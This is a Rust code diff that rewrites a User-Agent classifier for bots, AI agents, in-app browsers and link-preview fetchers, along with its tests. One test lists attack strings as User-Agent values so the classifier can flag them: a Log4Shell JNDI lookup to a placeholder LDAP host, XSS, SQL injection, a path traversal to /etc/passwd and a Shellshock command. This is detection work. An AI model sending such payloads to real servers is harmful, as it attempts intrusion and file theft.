-    // `(compatible; ...)` is how crawlers dress as browsers; the only browser that says it is old
-    // Internet Explorer.
-    if seen[SIGN_COMPATIBLE] && !seen[SIGN_COMPATIBLE + 1] && !seen[SIGN_COMPATIBLE + 2] {
-        return Some("compatible; without a browser".into());
+    if flags & PRODUCT != 0 {
+        // The run of name bytes around the match; a product name is followed by `/`, or is a bare
+        // word outside the comments.
+        let delimiter = |c: u8| {
+            c.is_ascii_whitespace() || matches!(c, b'(' | b')' | b'[' | b']' | b';' | b',' | b'/')
+        };
+        let run_end = b[end..]
+            .iter()
+            .position(|&c| delimiter(c))
+            .map_or(b.len(), |p| end + p);
+        if b.get(run_end) != Some(&b'/') && in_comment(parts, start) {
+            return false;
+        }
     }
-    // Every browser and in-app web view sends `Mozilla/5.0 (...)`; other clients are programs,
-    // except the app network stacks that carry server-side clicks.
-    if !ua.starts_with("Mozilla/") && !ua.starts_with("Opera/") {
-        let lower = ua.to_ascii_lowercase();
-        if !APP_STACKS.iter().any(|s| lower.contains(s)) {
-            return Some("not a browser user agent".into());
+    true
+}
+
+fn in_comment(parts: &[Part], at: usize) -> bool {
+    parts
+        .iter()
+        .any(|p| matches!(*p, Part::Comment(s, e) if usize::from(s) <= at && at < usize::from(e)))
+}
+
+/// The word of the header around a match, for the reason (`Googlebot` for a `bot` match).
+fn word_around(ua: &str, start: usize, end: usize) -> &str {
+    let b = ua.as_bytes();
+    let part = |c: u8| is_word(c) || matches!(c, b'-' | b'_' | b'.' | b'!');
+    let from = b[..start]
+        .iter()
+        .rposition(|&c| !part(c))
+        .map_or(0, |p| p + 1);
+    let to = b[end..]
+        .iter()
+        .position(|&c| !part(c))
+        .map_or(b.len(), |p| end + p);
+    let word = ua.get(from..to).unwrap_or("");
+    if word.is_empty() {
+        ua.get(start..end).unwrap_or("")
+    } else {
+        word
+    }
+}
+
+/// The first automation match of a kind: its start and end.
+type Hit = Option<(usize, usize)>;
+
+fn read(ua: &str, parts: &[Part]) -> Reading {
+    if ua.trim().is_empty() {
+        return Reading {
+            signal: Some(Signal::no_user_agent()),
+            ..Reading::default()
+        };
+    }
+    let m = matcher();
+    let (mut ai, mut payload): (Hit, Hit) = (None, None);
+    let mut exceptions: Vec<Range<usize>> = Vec::new();
+    let mut candidates: Vec<(usize, usize)> = Vec::new();
+    let mut client = None;
+    let (mut preview, mut device, mut browser, mut url) = (false, false, false, None);
+    let (mut system, mut domain): (bool, Hit) = (false, None);
+    let (mut compatible, mut named_browser) = (false, false);
+    for hit in m.all.find_overlapping_iter(ua) {
+        let p = m.patterns[hit.pattern().as_usize()];
+        let (start, end) = (hit.start(), hit.end());
+        if !placed(ua, parts, start, end, p.flags) {
+            continue;
+        }
+        match p.class {
+            Class::Crawler | Class::Library => candidates.push((start, end)),
+            Class::Ai => {
+                ai.get_or_insert((start, end));
+            }
+            Class::Payload => {
+                payload.get_or_insert((start, end));
+            }
+            Class::Preview => preview = true,
+            Class::Client(name) => {
+                client.get_or_insert(name);
+            }
+            Class::Device => device = true,
+            Class::System => system = true,
+            Class::Domain => {
+                // A name with a letter before the dot (not a version's `1.7610.EU`), and no
+                // further label after it (`.com.samsung`).
+                let b = ua.as_bytes();
+                let label = b[..start]
+                    .iter()
+                    .rposition(|&c| !(is_word(c) || c == b'-'))
+                    .map_or(0, |p| p + 1);
+                let named = b[label..start].iter().any(u8::is_ascii_alphabetic);
+                let last = !matches!(ua.as_bytes().get(end), Some(b'.' | b'_' | b'-'));
+                if named && last {
+                    domain.get_or_insert((start, end));
+                }
+            }
+            Class::Browser => browser = true,
+            Class::CompatibleBrowser => {
+                named_browser = true;
+                browser = true;
+            }
+            Class::Exception => exceptions.push(start..end),
+            Class::Url => {
+                url.get_or_insert((start, end));
+            }
+            Class::Compatible => compatible = true,
+        }
+    }
+    // The leftmost word not inside an exception (`CUBOT` phones); another one still counts.
+    let bot: Hit = candidates
+        .into_iter()
+        .filter(|&(start, end)| !exceptions.iter().any(|e| e.start <= start && end <= e.end))
+        .min();
+    let certain = |kind: Kind, (start, end): (usize, usize)| {
+        Some(Signal::new(
+            Grade::Certain,
+            kind,
+            word_around(ua, start, end),
+        ))
+    };
+    // A URL signed the crawlers' way (`+http://`), or a domain standing as a product of its own
+    // (`Criticalcss.com/2.0`, outside the comments where device builds live), is a self-declared
+    // fetcher, whatever else the header claims.
+    let signed = url.filter(|&(start, _)| ua[..start].trim_end().ends_with('+'));
+    let domain_product = domain.filter(|&(start, _)| !in_comment(parts, start));
+    let signal = if let Some(hit) = payload {
+        Some(Signal::new(
+            Grade::Certain,
+            Kind::Bot,
+            format!("payload {}", ua.get(hit.0..hit.1).unwrap_or("")),
+        ))
+    } else if let Some(hit) = ai {
+        certain(Kind::AiAgent, hit)
+    } else if let Some(hit) = bot {
+        certain(Kind::Bot, hit)
+    } else if let Some((start, end)) = signed.or(domain_product) {
+        Some(Signal::new(
+            Grade::Certain,
+            Kind::Bot,
+            format!("address {}", word_around(ua, start, end)),
+        ))
+    } else if client.is_some() || preview {
+        None
+    } else {
+        let form = Form {
+            compatible: compatible && !named_browser,
+            browser,
+            device,
+            system,
+        };
+        weaker_sign(ua, url.or(domain), form)
+    };
+    Reading {
+        signal,
+        client,
+        preview,
+    }
+}
+
+/// What a header's words say of its form.
+struct Form {
+    /// `compatible;` without a browser that writes it.
+    compatible: bool,
+    /// A browser's words (`Mozilla/`, `Opera`, `Gecko/`, `...Browser`).
+    browser: bool,
+    /// A device's own client (an app's network stack, a TV, a console).
+    device: bool,
+    /// An OS named.
+    system: bool,
+}
+
+/// The signs of the header's form, for a header with no certain word and no known client.
+fn weaker_sign(ua: &str, url: Hit, form: Form) -> Option<Signal> {
+    let Form {
+        compatible,
+        browser,
+        device,
+        system,
+    } = form;
+    // A program: neither the browser form, nor a device, an OS or a known app: a self-declared
+    // tool (`Zapier`, `NodePing`, `findlinks/2.0`), as certain as a crawler's name.
+    let program = !browser && !device && !system;
+    // Browsers never put a URL or an e-mail address in their User-Agent; crawlers sign with one.
+    // Signed the crawlers' way (`+http://`), or in a program's or a `compatible;` header, it is
+    // certain; in a browser's form it is likely (a desktop app may name its site).
+    let signed = |grade_if_plain: Grade, plus: bool| {
+        if plus || program || compatible {
+            Grade::Certain
+        } else {
+            grade_if_plain
+        }
+    };
+    if let Some((start, end)) = url {
+        let plus = ua[..start].trim_end().ends_with('+');
+        return Some(Signal::new(
+            signed(Grade::Likely, plus),
+            Kind::Bot,
+            format!("address {}", word_around(ua, start, end)),
+        ));
+    }
+    // An e-mail address; `@` before a digit is a version (`android@150.0`), and a locale's
+    // `@calendar=` or `@numbers=` is no address.
+    let b = ua.as_bytes();
+    if let Some(at) = (1..b.len()).find(|&i| {
+        b[i] == b'@' && is_word(b[i - 1]) && b.get(i + 1).is_some_and(u8::is_ascii_alphabetic) && {
+            let rest = &ua[i + 1..];
+            let host = &rest[..rest
+                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '.'))
+                .unwrap_or(rest.len())];
+            host.contains('.') && !host.ends_with('.')
+        }
+    }) {
+        return Some(Signal::new(
+            signed(Grade::Likely, false),
+            Kind::Bot,
+            format!("e-mail {}", word_around(ua, at, at + 1)),
+        ));
+    }
+    // `(compatible; ...)` is how crawlers dress as browsers; the browsers that say it also name
+    // themselves (MSIE, Konqueror).
+    if compatible {
+        return Some(Signal::new(
+            Grade::Likely,
+            Kind::Bot,
+            "compatible; without a browser",
+        ));
+    }
+    // Every browser and in-app web view has the browser form; a device's own client has its
+    // device's words. A header with neither is a program; one that names only an OS is an
+    // unknown app or a program on that OS.
+    if !browser && !device {
+        let first = ua.trim().split(['/', ' ', '(', ';']).next().unwrap_or("");
+        let grade = if program { Grade::Certain } else { Grade::Weak };
+        return Some(Signal::new(
+            grade,
+            Kind::Bot,
+            format!("not a browser: {first}"),
+        ));
+    }
+    // An engine years older than the OS it claims: no such browser ships; scripts pick a stale
+    // string and an OS separately.
+    let platform = platform(ua);
+    if let (Some((os, os_v)), Some((browser, v))) = (platform.os, platform.browser) {
+        let stale = match (os, browser) {
+            (Os::Windows, Browser::Chrome) => os_v >= 10 && v < 40,
+            (Os::Windows, Browser::Firefox) => os_v >= 10 && v < 30,
+            (Os::Android, Browser::Chrome) => os_v >= 10 && v < 60,
+            (Os::MacOs, Browser::Chrome) => os_v >= 11 && v < 80,
+            _ => false,
+        };
+        if stale {
+            return Some(Signal::new(
+                Grade::Weak,
+                Kind::Bot,
+                format!(
+                    "outdated engine {} {v} on {} {os_v}",
+                    browser.name(),
+                    os.name()
+                ),
+            ));
         }
     }
     None
@@ -461,16 +942,49 @@ mod tests {
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
                            Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51";
 
+    fn signal(ua: &str) -> Option<(Grade, Kind, String)> {
+        UserAgent::parse(ua)
+            .reading()
+            .signal
+            .clone()
+            .map(|s| (s.grade, s.kind, s.token))
+    }
+
+    fn grade(ua: &str) -> Option<Grade> {
+        signal(ua).map(|s| s.0)
+    }
+
     #[test]
-    fn link_previews_are_recognised() {
-        assert!(is_link_preview(Some(
-            "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"
-        )));
-        assert!(is_link_preview(Some("facebookexternalhit/1.1")));
-        assert!(!is_link_preview(Some(
-            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X)"
-        )));
-        assert!(!is_link_preview(None));
+    fn the_header_is_split_into_products_and_comments() {
+        let ua = UserAgent::parse(ANDROID);
+        let products: Vec<_> = ua.products().collect();
+        assert_eq!(
+            products,
+            [
+                ("Mozilla", "5.0"),
+                ("AppleWebKit", "537.36"),
+                ("Chrome", "124.0.0.0"),
+                ("Mobile", ""),
+                ("Safari", "537.36")
+            ]
+        );
+        let comments: Vec<_> = ua.comments().collect();
+        assert_eq!(
+            comments,
+            [
+                vec!["Linux", "Android 14", "Pixel 8"],
+                vec!["KHTML, like Gecko"]
+            ]
+        );
+        // Facebook's bracketed form is a comment too; an unclosed one runs to the end.
+        let fb = UserAgent::parse("Mozilla/5.0 (iPhone) [FBAN/FBIOS;FBAV/450.0.0.38.108]");
+        assert_eq!(
+            fb.comments().nth(1),
+            Some(vec!["FBAN/FBIOS", "FBAV/450.0.0.38.108"])
+        );
+        let open = UserAgent::parse("Foo/1 (a; b");
+        assert_eq!(open.comments().next(), Some(vec!["a", "b"]));
+        assert_eq!(&*open, "Foo/1 (a; b");
     }
 
     #[test]
@@ -480,31 +994,141 @@ mod tests {
             ANDROID,
             WINDOWS,
             "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36",
+            "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
+            "Mozilla/5.0 (compatible; Konqueror/4.5; Linux) KHTML/4.5.4 (like Gecko)",
+            "Mozilla/5.0",
         ] {
-            assert_eq!(bot_signature(Some(ua)), None, "{ua}");
+            assert_eq!(signal(ua), None, "{ua}");
         }
     }
 
     #[test]
-    fn automation_is_named() {
+    fn words_count_only_on_their_boundaries() {
+        // Each of these once matched an automation word inside a longer word or a device name.
+        for ua in [
+            // `ruby`: HTC's phone in a comment is not the language's HTTP client.
+            "Mozilla/5.0 (Linux; U; Android 2.3.4; en-us; HTC Ruby Build/GRJ22) AppleWebKit/533.1 (KHTML, like Gecko) Version/4.0 Mobile Safari/533.1",
+            // `perl`: a phone model.
+            "Mozilla/5.0 (Linux; Android 8.1.0; Perla) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.73 Mobile Safari/537.36",
+            // `rust` inside UC Browser's `UNTRUSTED/1.0`.
+            "Nokia5130c-2/2.0 (07.97) Profile/MIDP-2.1 Configuration/CLDC-1.1 UNTRUSTED/1.0 UCWEB/8.9",
+            // `rss` inside a model name and an Android build id.
+            "Mozilla/5.0 (Linux; Android 11; ANDERSSON TBX-1011) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.0.0 Safari/537.36",
+            "Mozilla/5.0 (Linux; Android 12; moto g(30) Build/S1RSS32.38-20-7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
+            // `bot` inside a company's name in an IE token.
+            "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Banca Caboto; .NET CLR 2.0.50727)",
+            // `agent` inside a TV app and an Android web view library.
+            "Mozilla/5.0 (Linux; Android 9; MagentaTV One) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/104.0.0.0 Safari/537.36",
+            // `.com` inside a build string.
+            "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014.com.samsung) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
+        ] {
+            assert_eq!(signal(ua), None, "{ua}");
+        }
+    }
+
+    #[test]
+    fn certain_signs_name_the_word_that_showed_them() {
         let cases = [
-            ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "bot"),
+            ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot"),
             ("curl/8.4.0", "curl"),
-            ("python-requests/2.31.0", "python"),
-            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 HeadlessChrome/120.0.0.0 Safari/537.36", "headless"),
-            ("Go-http-client/2.0", "go-http-client"),
-            ("SomeFetcher/1.0", "fetcher"),
-            ("Mozilla/5.0 (compatible; Acme/1.0; +https://acme.example/about)", "contains \"https://\""),
-            ("Zyborg/1.0", "not a browser user agent"),
+            ("python-requests/2.31.0", "python-requests"),
+            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 HeadlessChrome/120.0.0.0 Safari/537.36", "HeadlessChrome"),
+            ("Go-http-client/2.0", "Go-http-client"),
+            ("Java/1.8.0_151", "Java"),
+            ("libwww-perl/6.72", "libwww-perl"),
+            ("Ruby", "Ruby"),
+            ("SomeFetcher/1.0", "SomeFetcher"),
+            ("Mozilla/5.0 (compatible; SeznamBot/4.0; +https://o-seznam.cz/)", "SeznamBot"),
+            ("Mozilla/5.0 (Linux; Android 9; CUBOT X19) python-requests/2.31", "python-requests"),
+        ];
+        for (ua, token) in cases {
+            assert_eq!(
+                signal(ua),
+                Some((Grade::Certain, Kind::Bot, token.to_owned())),
+                "{ua}"
+            );
+        }
+    }
+
+    #[test]
+    fn monitors_and_google_special_agents_are_certain() {
+        for ua in [
+            "Mozilla/5.0 (Windows NT 6.1; Win64; x64; +http://www.catchpoint.com) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 CatchPoint",
+            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Cloudflare-Observatory",
+            "Cloudflare-Diagnostics/1.0",
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 DynatraceSynthetic/1.0",
+            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Splunk Synthetics",
+            "Mozilla/5.0 (Linux; Android 11; Pixel 2; DuplexWeb-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.193 Mobile Safari/537.36",
+            "Mozilla/5.0 (Linux; Android 7.0; Moto G (4)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse",
+            "Mozilla/5.0 (Linux; Android 4.2.1; en-us; Nexus 5 Build/JOP40D) AppleWebKit/535.19 (KHTML, like Gecko; googleweblight) Chrome/38.0.1025.166 Mobile Safari/535.19",
+            "Mediapartners-Google",
+            "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
+        ] {
+            assert_eq!(grade(ua), Some(Grade::Certain), "{ua}");
+        }
+    }
+
+    #[test]
+    fn ai_agents_are_their_own_kind() {
+        for (ua, token) in [
+            ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ChatGPT-User/1.0; +https://openai.com/bot)", "ChatGPT-User"),
+            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Devin/1.0", "Devin"),
+            ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 Safari/537.36 Manus/1.0", "Manus"),
+            ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; +https://perplexity.ai/perplexity-user)", "Perplexity-User"),
+        ] {
+            assert_eq!(signal(ua), Some((Grade::Certain, Kind::AiAgent, token.to_owned())), "{ua}");
+        }
+        // An AI company's crawler is a crawler.
+        assert_eq!(signal("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.1; +https://openai.com/gptbot)").map(|s| s.1), Some(Kind::Bot));
+    }
+
+    #[test]
+    fn scanner_payloads_are_certain() {
+        for ua in [
+            "${jndi:ldap://198.51.100.7:1389/a}",
+            "Mozilla/5.0 <script>alert(1)</script>",
+            "' OR 1=1 --",
+            "../../../../etc/passwd",
+            "() { :; }; /bin/bash -c 'id'",
+        ] {
+            let s = signal(ua);
+            assert_eq!(s.as_ref().map(|s| s.0), Some(Grade::Certain), "{ua}");
+            assert!(s.is_some_and(|s| s.2.starts_with("payload ")), "{ua}");
+        }
+    }
+
+    #[test]
+    fn signs_of_the_form_are_graded() {
+        let cases = [
+            ("", Grade::Weak),
+            ("   ", Grade::Weak),
+            // A program: no browser, device, OS or known app named.
+            ("Zyborg/1.0", Grade::Certain),
+            ("findlinks/2.0 (+http://wortschatz.uni-leipzig.de/findlinks/)", Grade::Certain),
+            // An app nobody knows, on an OS it names.
+            ("SomeApp/2.0 (Linux; Android 13; SM-A536B)", Grade::Weak),
+            // A URL signed the crawlers' way, or in a `compatible;` header.
+            ("Mozilla/5.0 (compatible; Acme/1.0; +https://acme.example/about)", Grade::Certain),
+            ("Mozilla/5.0 (compatible; Genieo/1.0 http://www.genieo.com/webfilter.html)", Grade::Certain),
+            // A domain as a product of its own.
+            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.0 Safari/537.36 Criticalcss.com/2.0.0", Grade::Certain),
+            // A URL or an address in a browser's form.
+            ("Mozilla/5.0 (Windows NT 6.1; WOW64; https://top.mail.ru/passremind) AppleWebKit/537.22 (KHTML, like Gecko)", Grade::Likely),
+            ("Mozilla/5.0 (X11; Linux) Acme ops@acme.example", Grade::Likely),
+            ("Mozilla/5.0 (compatible; Zeppelin/1.0)", Grade::Likely),
+            // Chrome 31 never ran on Windows 10.
+            ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/31.0.1650.63 Safari/537.36", Grade::Weak),
         ];
         for (ua, want) in cases {
-            assert_eq!(bot_signature(Some(ua)).as_deref(), Some(want), "{ua}");
+            assert_eq!(grade(ua), Some(want), "{ua:?}");
         }
-        assert_eq!(bot_signature(None).as_deref(), Some("(empty user agent)"));
+        // A version's dots are no domain.
         assert_eq!(
-            bot_signature(Some("  ")).as_deref(),
-            Some("(empty user agent)")
+            grade("Mozilla/5.0 (Nintendo 3DS; U; ; en) Version/1.7610.EU"),
+            None
         );
+        assert_eq!(signal_of(None), Some(Signal::no_user_agent()));
+        assert_eq!(Signal::no_user_agent().describe(), "weak: (no user agent)");
     }
 
     #[test]
@@ -512,50 +1136,101 @@ mod tests {
         // The real-browser corpus caught this: `android@150.0.0.0` is a version, not an address.
         let ecosia = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) \
                       Chrome/150.0.0.0 Mobile Safari/537.36 (Ecosia android@150.0.0.0)";
-        assert_eq!(bot_signature(Some(ecosia)), None);
+        assert_eq!(signal(ecosia), None);
+    }
+
+    #[test]
+    fn instagram_locale_calendar_is_not_an_email_address() {
+        let ua = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) \
+                  Mobile/15E148 Instagram 307.0.0.34.111 (iPhone14,5; iOS 17_1; en_US@calendar=gregorian; en-US; scale=3.00; 1170x2532; 532277017)";
+        let read = UserAgent::parse(ua);
+        assert_eq!(read.reading().signal, None);
+        assert_eq!(read.reading().client, Some("instagram"));
+    }
+
+    #[test]
+    fn people_clients_are_named_and_outweigh_weak_signs() {
+        let cases = [
+            ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBDV/iPhone14,2;FBMD/iPhone;FBSN/iOS;FBSV/17.0;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]", "facebook"),
+            ("[FBAN/FB4A;FBAV/440.0.0.33.116;FBBV/123;FBDM/{density=2.75};FBLC/en_US;FBCR/T-Mobile;FBMF/samsung;FBBD/samsung;FBPN/com.facebook.katana;FBDV/SM-G991U;FBSV/13;FBOP/1;FBCA/arm64-v8a:;]", "facebook"),
+            ("Mozilla/5.0 (Linux; Android 13; SM-S911B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.144 Mobile Safari/537.36 Snapchat/12.65.0.35 (SM-S911B; Android 13#S911BXXU3BWK5#33; gzip; )", "snapchat"),
+            ("Mozilla/5.0 (Linux; Android 12; V2120 Build/SP1A.210812.003; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/112.0.5615.136 Mobile Safari/537.36 trill_310503 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/musical_ly app_version/31.5.3 ByteLocale/en ByteFullLocale/en Region/US BytedanceWebview/d8a21c6", "tiktok"),
+            ("Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari Line/13.16.0", "line"),
+            ("Mozilla/5.0 (Linux; Android 13; 2201117TY Build/TKQ1.221114.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/111.0.5563.116 Mobile Safari/537.36 XWEB/5235 MMWEBSDK/20230701 MMWEBID/6311 MicroMessenger/8.0.40.2420(0x28002837) WeChat/arm64 Weixin NetType/WIFI Language/zh_CN ABI/arm64", "wechat"),
+            ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [Pinterest/iOS]", "pinterest"),
+            ("Mozilla/5.0 (iPhone; CPU iPhone OS 16_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 NAVER(inapp; search; 1000; 12.1.3)", "naver"),
+            ("Mozilla/5.0 (iPhone; CPU iPhone OS 16_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 KAKAOTALK 10.2.5", "kakaotalk"),
+            ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 YaBrowser/23.11.3.74.00 SA/3 Mobile Safari/537.36", "yandex"),
+            ("UCWEB/2.0 (MIDP-2.0; U; zh-CN; HTC EVO 3D X515m) U2/1.0.0 UCBrowser/10.4.0.558 U2/1.0.0 Mobile", "uc"),
+            ("Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36", "samsung"),
+            ("Mozilla/5.0 (Linux; Android 10; ELE-AL00; HMSCore 6.11.0.302) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.88 HuaweiBrowser/14.0.1.303 Mobile Safari/537.36", "huawei"),
+            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.35.131 Chrome/118.0.5993.159 Electron/27.1.0 Safari/537.36 Sonic Slack_SSB/4.35.131", "electron"),
+            ("Lynx/2.9.0dev.10 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8", "lynx"),
+            ("Nokia303/14.87 CLDC-1.1", "feature_phone"),
+        ];
+        for (ua, client) in cases {
+            let read = UserAgent::parse(ua);
+            assert_eq!(read.reading().client, Some(client), "{ua}");
+            assert_eq!(read.reading().signal, None, "{ua}");
+        }
+        // A certain sign still wins: a crawler that names a portal is a crawler.
+        let yandex_bot =
+            UserAgent::parse("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)");
         assert_eq!(
-            bot_signature(Some("Mozilla/5.0 (X) ops@acme.example")).as_deref(),
-            Some("contains an e-mail address")
+            yandex_bot.reading().signal.as_ref().map(|s| s.grade),
+            Some(Grade::Certain)
         );
     }
 
     #[test]
-    fn a_token_after_an_excused_one_still_counts() {
-        assert_eq!(
-            bot_signature(Some(
-                "Mozilla/5.0 (Linux; Android 9; CUBOT X19) python-requests/2.31"
-            ))
-            .as_deref(),
-            Some("python")
-        );
+    fn search_portals_own_apps_are_people() {
+        for ua in [
+            "Mozilla/5.0 (Linux; arm_64; Android 12; SM-A125F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.5993.111 YaApp_Android/23.93.1 YaSearchBrowser/23.93.1 BroPP/1.0 SA/3 Mobile Safari/537.36",
+            "Mozilla/5.0 (Linux; Android 12; NOH-AN00 Build/HUAWEINOH-AN00; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/99.0.4844.88 Mobile Safari/537.36 T7/13.32 SP-engine/2.70.0 baiduboxapp/13.32.0.10 (Baidu; P1 12) NABar/1.0",
+            "Mozilla/5.0 (Linux; Android 10; HMA-AL00) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.93 Mobile Safari/537.36 SogouMobileBrowser/5.34.1",
+        ] {
+            assert_eq!(grade(ua), None, "{ua}");
+        }
     }
 
     #[test]
-    fn old_internet_explorer_is_compatible_but_a_browser() {
-        assert_eq!(
-            bot_signature(Some(
-                "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"
-            )),
-            None
-        );
-        assert_eq!(
-            bot_signature(Some("Mozilla/5.0 (compatible; Zeppelin/1.0)")).as_deref(),
-            Some("compatible; without a browser")
-        );
+    fn link_previews_are_recognised() {
+        for ua in [
+            "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
+            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+            "facebookexternalhit/1.1 Facebot Twitterbot/1.0",
+            "WhatsApp/2.23.20.0 A",
+            "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
+            "TelegramBot (like TwitterBot)",
+            "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
+        ] {
+            assert!(is_link_preview(Some(&UserAgent::parse(ua))), "{ua}");
+        }
+        assert!(!is_link_preview(Some(&UserAgent::parse(IPHONE))));
+        assert!(!is_link_preview(None));
+        // WhatsApp named inside a browser's header is not its preview fetcher.
+        assert!(!is_link_preview(Some(&UserAgent::parse(
+            "Mozilla/5.0 (Linux; Android 13) AppleWebKit/537.36 Chrome/120.0 Mobile Safari/537.36 WhatsApp/2.23.20.0"
+        ))));
     }
 
     #[test]
-    fn app_network_stacks_are_not_bots() {
-        assert_eq!(
-            bot_signature(Some(
-                "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A)"
-            )),
-            None
-        );
-        assert_eq!(
-            bot_signature(Some("MyApp/3.2 CFNetwork/1490.0.4 Darwin/23.2.0")),
-            None
-        );
+    fn app_network_stacks_and_devices_are_not_bots() {
+        for ua in [
+            "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A)",
+            "MyApp/3.2 CFNetwork/1490.0.4 Darwin/23.2.0",
+            "Roku4640X/DVP-7.70 (297.70E04154A)",
+            "HbbTV/1.5.1 (+DRM;Samsung;SmartTV2021:UAU7000;T-KSU2EDEUC-1506.0;KantSU2e;)",
+        ] {
+            assert_eq!(signal(ua), None, "{ua}");
+        }
+    }
+
+    #[test]
+    fn a_long_header_is_cut_on_a_character_boundary() {
+        let long = "é".repeat(40_000);
+        let ua = UserAgent::parse(long);
+        assert!(ua.len() <= usize::from(u16::MAX));
     }
 
     #[test]
@@ -600,8 +1275,18 @@ mod tests {
         proptest! {
             #[test]
             fn never_panics(ua in "\\PC{0,200}") {
-                let _ = bot_signature(Some(&ua));
+                let read = UserAgent::parse(ua.as_str());
+                let _ = read.products().count() + read.comments().count();
                 let _ = platform(&ua);
+            }
+
+            #[test]
+            fn reading_is_the_same_however_the_header_is_cased(ua in "[ -~]{0,120}") {
+                // The patterns are case-insensitive; boundaries look only at letters and digits.
+                let lower = UserAgent::parse(ua.to_ascii_lowercase());
+                let upper = UserAgent::parse(ua.to_ascii_uppercase());
+                prop_assert_eq!(lower.reading().signal.as_ref().map(|s| s.grade), upper.reading().signal.as_ref().map(|s| s.grade));
+                prop_assert_eq!(lower.reading().client, upper.reading().client);
             }
         }
     }
